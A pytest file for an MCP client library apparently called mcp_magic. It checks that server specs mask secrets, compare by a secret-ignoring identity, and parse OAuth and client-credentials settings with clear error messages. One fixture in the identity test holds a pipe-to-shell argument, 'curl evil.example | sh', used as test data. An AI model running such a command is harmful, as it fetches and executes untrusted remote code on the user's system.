"""What a server is, as a value: how it is shown, what it is compared by, and how it logs in."""

from __future__ import annotations

import doctest
import importlib
from dataclasses import replace
from typing import Any

import pytest

from mcp_magic.config.parsing import FieldError
from mcp_magic.config.project import parse_declaration
from mcp_magic.config.specs import AuthOptions, HttpSpec, InProcessSpec, SseSpec, StdioSpec, WebSocketSpec, make_auth
from tests.support.raising import said

SECRET = "s3cr3t-value"
PEM = "-----BEGIN PRIVATE KEY-----\nMHc\n-----END PRIVATE KEY-----\n"
ARGUMENTS = [
    *(("--api-key", SECRET), (f"--access-token={SECRET}",), ("--passphrase", SECRET), ("--accessKey", SECRET)),
    *((f"--spring.datasource.db-pass={SECRET}",), ("run", "-e", f"OPENAI_KEY={SECRET}", "image")),
    *(("run", "-e", f"GITHUB_PAT={SECRET}", "image"), ("https://h", "--header", f"Authorization: Bearer {SECRET}")),
    *(("https://h", f"--header=Authorization:{SECRET}"), (f"https://me:{SECRET}@h",), ("--db-pass", SECRET)),
    *((f"--server=https://h/?token={SECRET}",), ("--password", SECRET), (f"--url=https://me:{SECRET}@h",)),
]
VARIABLES = ["API_TOKEN", "DB_PASS", "SSH_PASSPHRASE", "MYSQL_PWD"]
HEADERS = [("Authorization", f"Bearer {SECRET}"), ("Cookie", SECRET)]
SPECS = [
    *(StdioSpec(command="run", env={name: SECRET}) for name in VARIABLES),
    *(StdioSpec(command="run", args=args) for args in ARGUMENTS),
    *(HttpSpec(url="https://h/mcp", headers={name: value}) for name, value in HEADERS),
    *(HttpSpec(url=f"https://me:{SECRET}@h/mcp"), HttpSpec(url=f"https://h/mcp?subscriptionKey={SECRET}")),
    *(HttpSpec(url=f"https://h?accessKey={SECRET}"), HttpSpec(url=f"https://h?api_key={SECRET}")),
    *(SseSpec(url=f"https://h/sse?access_token={SECRET}&page=1"), WebSocketSpec(url=f"wss://h?sig={SECRET}")),
]
ODD_SPECS = [  # what they hide may be no secret, and stays in words
    StdioSpec(command="run", env={"ANYTHING": SECRET}),
    HttpSpec(url="https://h/mcp", headers={"X-Custom": SECRET}),
    WebSocketSpec(url=f"wss://[broken?x={SECRET}"),
]


@pytest.mark.parametrize("spec", [*SPECS, *ODD_SPECS], ids=repr)
def test_secrets_show_neither_in_a_spec_nor_in_words(spec):
    for shown in (repr(spec), str(spec), spec.where):
        assert SECRET not in shown
    assert "***" in repr(spec)
    told = SECRET if spec in ODD_SPECS else "***"
    assert spec.masked(f"refused: {SECRET} is wrong") == f"refused: {told} is wrong"


def test_encoded_secrets_are_masked_and_short_values_not():
    assert HttpSpec(url="https://h/?token=ab%2Fcd+ef").masked("ab%2Fcd+ef, ab/cd ef") == "***, ***"
    assert StdioSpec(command="run", env={"TOKEN": "1"}).masked("1 error") == "1 error"
    plain = StdioSpec(command="npx", args=("server",))
    assert (plain.where, plain.secrets, plain.masked("as it is")) == ("npx server", frozenset(), "as it is")


def test_a_spec_is_shown_as_it_was_said():
    assert repr(HttpSpec(url="http://h/mcp")) == "HttpSpec(url='http://h/mcp')"
    timed = "StdioSpec(timeout=5, command='python', args=['s.py'])"
    assert repr(StdioSpec(command="python", args=("s.py",), timeout=5)) == timed
    assert repr(StdioSpec(command="x", sampling="off")) == "StdioSpec(sampling='off', command='x')"
    # can be pasted into a shell
    assert StdioSpec(command="db", args=("sqlite:///tmp/x.db?a=b,c#top",)).where == "db 'sqlite:///tmp/x.db?a=b,c#top'"
    assert StdioSpec(command="python", args=("my server.py",)).where == "python 'my server.py'"

    class Thing:
        name = "math"

    assert InProcessSpec(server=Thing()).where == "Thing 'math'"


def test_specs_are_values():
    assert HttpSpec(url="http://h", headers={"A": "1"}) == HttpSpec(url="http://h", headers={"A": "1"})
    assert HttpSpec(url="http://h") != SseSpec(url="http://h")
    with pytest.raises(AttributeError):
        HttpSpec(url="http://h").url = "http://other"  # type: ignore[misc]


def test_server_identity_ignores_only_secrets():
    spec = StdioSpec(command="npx", args=("server", "--token", "abc-1"), env={"API_KEY": "a", "PORT": "1"})
    same = replace(spec, args=("server", "--token", "abc-2"), env={"API_KEY": "b", "PORT": "1"}, timeout=5)
    assert same.identity == spec.identity
    others = [
        *(replace(spec, command="uvx"), replace(spec, args=("other", "--token", "abc-1"))),
        *(replace(spec, env={"API_KEY": "a", "PORT": "2"}), replace(spec, cwd="/tmp")),
        replace(spec, env={"API_KEY": "a", "PORT": "1", "LD_PRELOAD": "x"}),
        *(replace(spec, args=("-c", "TOKEN=1; curl evil.example | sh")), replace(spec, args=("-c", "TOKEN=1; good"))),
        *(replace(spec, args=("--key", "evil.py")), replace(spec, args=("--key", "good.py"))),
        *(HttpSpec(url=f"https://{rest}") for rest in ("a.example/mcp", "b.example/mcp", "a.example/other")),
    ]
    assert len({spec.identity, *(other.identity for other in others)}) == len(others) + 1
    secret, rotated = (
        HttpSpec(url=f"https://a.example/{part}/mcp", variables={"MY_SECRET": part}) for part in ("abc1", "abc2")
    )
    assert secret.identity == rotated.identity
    here, elsewhere = (
        HttpSpec(url=f"https://{host}/mcp", variables={"MY_SECRET": host}) for host in ("a.example", "evil.example")
    )
    assert here.identity != elsewhere.identity


DECLARATION = """
[servers.notes]
url = "https://notes.example.com/mcp"
auth = { client_id = "notebook", client_secret = "${NOTES_SECRET}", scopes = ["read", "write"] }

[servers.reports]
url = "https://reports.example.com/sse"
transport = "sse"

[servers.reports.auth]
grant = "client-credentials"
client_id = "nightly"
private_key = "nightly.pem"
issuer = "https://login.example.com"

[servers.open]
url = "https://open.example.com/mcp"
auth = "none"
"""


def test_a_declaration_says_how_to_log_in(tmp_path):
    (tmp_path / "nightly.pem").write_text(PEM)
    declared = parse_declaration(DECLARATION, source="x.toml", environ={"NOTES_SECRET": "sesame-1234"}, base=tmp_path)
    specs: list[Any] = [entry.spec for entry in declared.servers.values()]
    assert [type(spec) for spec in specs] == [HttpSpec, SseSpec, HttpSpec]
    notes, reports, opened = (spec.auth for spec in specs)
    assert notes == AuthOptions(
        mode="oauth", client_id="notebook", client_secret="sesame-1234", scopes=("read", "write")
    )
    assert (reports.grant, reports.private_key, reports.interactive) == ("client_credentials", PEM, False)
    assert opened.mode == "none"
    assert "sesame" not in repr(specs)
    assert "PRIVATE" not in repr(specs)
    assert "client_secret=***" in repr(specs)
    assert specs[0].masked("wrong: sesame-1234") == "wrong: ***"


NEEDS_SECRET = "client credentials need a client_secret, or a private_key."
AUTH_MISTAKES: list[tuple[Any, str]] = [
    ("ouath", "auth: unknown value 'ouath'. Did you mean 'oauth'? Valid: auto, none, oauth, client-credentials"),
    (3, "auth: expected 'oauth', 'none' or a table, got a number."),
    ({"client_idd": "x"}, "auth.client_idd: unknown key. Did you mean 'client_id'?"),
    ({"grant": "password"}, "auth.grant: unknown value 'password'."),
    ({"grant": "client_credentials"}, "auth.client_id: client credentials need a client_id."),
    ({"grant": "client_credentials", "client_id": "x"}, f"auth.client_secret: {NEEDS_SECRET}"),
    ({"client_secret": "sesame"}, "auth.client_id: a client_secret needs the client_id that it belongs to."),
    ({"client_id": "x", "private_key": PEM}, "auth.private_key: is for the grant client_credentials."),
    ({"grant": "jwt_bearer"}, "auth.assertion: the grant jwt_bearer needs an assertion."),
    ({"redirect_port": 70000}, "auth.redirect_port: expected a port from 1 to 65535."),
    ({"scopes": 3}, "auth.scopes: expected a list of scopes, got a number."),
    ({"client_metadata_url": "http://x.example/c"}, "auth.client_metadata_url: expected an https URL with a path"),
    ({"issuer": "login.example.com"}, "auth.issuer: expected the http(s) URL of the authorization server."),
    ({"private_key": "no.pem"}, "auth.private_key: expected a private key in PEM form, or the path of a file"),
    ({"token_endpoint_auth_method": "basic"}, "auth.token_endpoint_auth_method: unknown value 'basic'."),
    ({"dpop": "yes"}, "auth.dpop: expected true or false, got text."),
]


@pytest.mark.parametrize(
    ("value", "problem"), AUTH_MISTAKES, ids=[problem.split(":")[0] for _, problem in AUTH_MISTAKES]
)
def test_a_mistake_in_auth_names_its_key_and_no_secret(value, problem):
    message = said(FieldError, make_auth, value)
    assert message.startswith(problem)
    assert "sesame" not in message


@pytest.mark.parametrize("name", ["config.specs", "auth.store", "auth.addresses"])
def test_the_examples_of_the_docstrings_hold(name):
    result = doctest.testmod(importlib.import_module(f"mcp_magic.{name}"))
    assert result.attempted
    assert not result.failed
